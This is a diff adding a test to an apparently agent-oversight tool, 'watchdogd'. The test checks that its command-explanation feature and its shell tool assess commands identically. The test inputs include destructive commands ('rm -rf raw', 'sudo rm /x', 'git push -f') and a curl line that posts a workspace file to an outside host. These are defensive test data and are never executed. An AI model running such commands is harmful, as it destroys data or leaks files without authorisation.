@@ -12,8 +12,12 @@ from watchdogd.commands.check import check
 from watchdogd.commands.init import init
 from watchdogd.core.access import Act, Deny, denial_of
 from watchdogd.core.events import Impact
-from watchdogd.settings.bounds import bounds, job
+from watchdogd.core.shell import assess
+from watchdogd.ports import CommandResult, SandboxProfile
+from watchdogd.settings.bounds import bounds, job, protected
+from watchdogd.settings.explain import act_of
 from watchdogd.settings.load import load
+from watchdogd.worker.tools.shell import ShellTool
 
 CONFIG = """[agent]
 workspace = "work"
@@ -40,6 +44,16 @@ kind = "path"
 pattern = "keep/*"
 reason = "kept for the audit"
 """
+
+
+class UnusedSandbox:
+    """Nothing is run here; calls are only weighed."""
+
+    name = "unused"
+
+    async def run(self, command, profile, *, until_boot_s, launched) -> CommandResult:
+        raise AssertionError("nothing may run")
+
 
 app = typer.Typer()
 app.command("check")(check)
@@ -156,6 +170,30 @@ def test_explain_says_what_the_gate_would_do_and_which_line_decides(main, comman
         assert found["from"] == line(main, "mirror.example")
     else:
         assert found["from"] == line(main, decides)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls",
+        "rm -rf raw",
+        "cd raw && rm *",
+        "rm keep/x",
+        "git push -f",
+        "curl -d @raw/a https://x.example",
+        "sudo rm /x",
+    ],
+)
+def test_a_command_is_explained_as_the_workers_tool_weighs_it(main, command):
+    loaded = load(main, env={})
+    mission = loaded.settings.mission("nightly")
+    workspace = str(loaded.settings.agent.workspace)
+    guarded = protected(loaded.settings, mission)
+    profile = SandboxProfile(workspace=workspace, protected=guarded)
+    prepared = ShellTool(UnusedSandbox(), profile).prepare({"command": command})
+    act = act_of(command, assess(command, workspace=workspace, protected=guarded))
+    assert (act.impact, act.writes, act.hosts) == (prepared.impact, prepared.writes, prepared.hosts)
+    assert act.dangers == prepared.dangers
 
 
 def test_a_missions_rule_binds_that_mission_alone(main):
